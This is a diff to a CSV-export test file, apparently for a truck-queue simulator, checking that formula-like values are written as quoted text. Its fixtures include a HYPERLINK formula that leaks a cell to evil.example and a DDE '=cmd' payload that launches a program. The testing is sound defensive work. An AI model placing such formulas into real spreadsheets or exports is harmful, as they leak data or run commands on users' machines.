@@ -47,6 +47,7 @@ describe("csvCell", () => {
 });
 
 describe("every CSV the app writes", () => {
+  const minutes = { count: 1, mean: 1, p50: 1, p90: 1, p95: 1, p99: 1, max: 1 };
   const report = {
     scenario: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
     seed: 1,
@@ -54,17 +55,35 @@ describe("every CSV the app writes", () => {
     trucksArrived: 1,
     trucksCompleted: 1,
     throughputPerHour: 1,
-    waitMinutes: { mean: 1, p50: 1, p90: 1, p95: 1, p99: 1, max: 1 },
-    timeInSystemMinutes: { mean: 1, p50: 1, p90: 1, p95: 1, p99: 1, max: 1 },
+    // issue 16's figures, each present so the whole report is written
+    steadyState: true,
+    warnings: ["=cmd|' /C calc'!A0"],
+    trucksExited: 1,
+    trucksRefused: 0,
+    trucksExpired: 0,
+    trucksInsideAtStart: 0,
+    trucksInsideAtEnd: 0,
+    waitMinutes: minutes,
+    gateWaitMinutes: minutes,
+    virtualQueueWaitMinutes: minutes,
+    timeInSystemMinutes: minutes,
+    entryToReleaseMinutes: minutes,
     stageMinutes: {},
+    resourceWaitMinutes: {},
+    resourceServiceMinutes: {},
+    byChannel: {},
+    byClass: {},
     utilisation: {},
     queueLength: { mean: 0, max: 0 },
+    gateQueue: { mean: 0, max: 0, atEnd: 0 },
+    virtualQueue: { mean: 0, max: 0, atEnd: 0 },
     hourly: [{ hour: 0, arrivals: 1, completed: 1, meanWaitMinutes: -0, queueLength: 0 }],
   };
 
   it("a run's report: a scenario named like a formula reaches the CSV as text", () => {
     const rows = parse(reportCsv(report as never), { relax_column_count: true }) as string[][];
     expect(rows[1]).toEqual(["scenario", `'${report.scenario}`]);
+    expect(rows.find((r) => r[0] === "warning")).toEqual(["warning", `'${report.warnings[0]}`]);
   });
 
   it("the simulator's trucks.csv and a recorded trace: a plate like a formula is text", () => {
